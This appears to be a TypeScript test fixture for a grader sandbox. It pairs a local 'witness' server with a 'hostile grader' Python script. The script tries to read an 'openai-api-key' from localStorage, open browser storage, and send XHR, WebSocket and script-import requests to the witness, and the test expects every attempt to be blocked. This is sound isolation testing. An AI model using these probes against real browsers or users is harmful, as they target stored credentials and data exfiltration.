/** A local HTTP + WebSocket server that records every request it gets (the hostile grader's target). */
import { createHash } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Duplex } from 'node:stream';

export interface Witness {
  server: Server;
  port: number;
  hits: string[];
  close(): Promise<void>;
}

export async function witnessServer(): Promise<Witness> {
  const hits: string[] = [];
  const server = createServer((req, res) => {
    hits.push(`http ${req.url}`);
    res.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('secret-exfiltration-endpoint');
  });
  const upgraded = new Set<Duplex>();
  server.on('upgrade', (req, socket) => {
    hits.push(`websocket ${req.url}`);
    upgraded.add(socket);
    socket.on('close', () => upgraded.delete(socket));
    const accept = createHash('sha1').update(`${req.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`).digest('base64');
    socket.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return {
    server,
    port: (server.address() as AddressInfo).port,
    hits,
    // The sockets it accepted never answer a close frame: end them, or close() would wait for the browser.
    close: () =>
      new Promise((r) => {
        for (const socket of upgraded) socket.destroy();
        server.close(() => r());
        server.closeAllConnections();
      }),
  };
}

/**
 * A python grader that tries storage, the network (the witness at `target`, host:port), script imports and the
 * page, and prints one line per attempt. Every line must say "blocked". Two probes can fail later rather than
 * at once, so AFTER_CHECK looks at them in the next run: a WebSocket (Chromium creates it and it never opens;
 * Firefox and WebKit throw at once) and CacheStorage (Chromium and Firefox throw; in WebKit `caches.keys()` returns
 * a promise, which must not list the app's caches).
 */
export const hostileGrader = (target: string) => `
import js

def attempt(name, fn):
    try:
        value = fn()
        return f"{name}: OPEN {str(value)[:40]}"
    except BaseException as e:
        return f"{name}: blocked ({type(e).__name__})"

def xhr(url):
    req = js.XMLHttpRequest.new()
    req.open("GET", url, False)
    req.send()
    return req.responseText

def websocket(url):
    js.globalThis.probeSocket = js.WebSocket.new(url)
    raise RuntimeError("connecting in the background; checked by the next run")

def caches():
    js.eval("caches.keys().then((k) => { globalThis.probeCaches = 'keys ' + JSON.stringify(k); }, (e) => { globalThis.probeCaches = 'rejected ' + e.name; })")
    raise RuntimeError("answered in the background; checked by the next run")

def grade(sample, item):
    results = [
        attempt("localStorage", lambda: js.localStorage.getItem("openai-api-key")),
        attempt("indexedDB", lambda: js.indexedDB.open("grader-playground-secrets")),
        attempt("caches", caches),
        attempt("request to another origin", lambda: xhr("http://${target}/xhr")),
        attempt("websocket", lambda: websocket("ws://${target}/probe")),
        attempt("importScripts", lambda: js.importScripts("http://${target}/import.js")),
        attempt("document", lambda: js.document.title),
        attempt("parent", lambda: js.parent.document.title),
    ]
    for r in results:
        print(r)
    return 1.0 if all("blocked" in r for r in results) else 0.0
`;

/**
 * Reward 0.5 when the probe socket is not open (never created, or created and never connected) and the cache
 * probe saw none of the app's caches (it threw, was rejected, or listed an empty storage of its own); 0
 * otherwise. A value of its own, so a wait for it cannot be met by the hostile grader's 1.
 */
export const AFTER_CHECK = `import js

def grade(sample, item):
    s = getattr(js.globalThis, "probeSocket", None)
    c = getattr(js.globalThis, "probeCaches", None)
    print("socket:", "none" if s is None else s.readyState, "caches:", c)
    socket_closed = s is None or s.readyState != 1
    no_app_caches = c is None or c.startswith("rejected") or c == "keys []"
    return 0.5 if socket_closed and no_app_caches else 0.0
`;
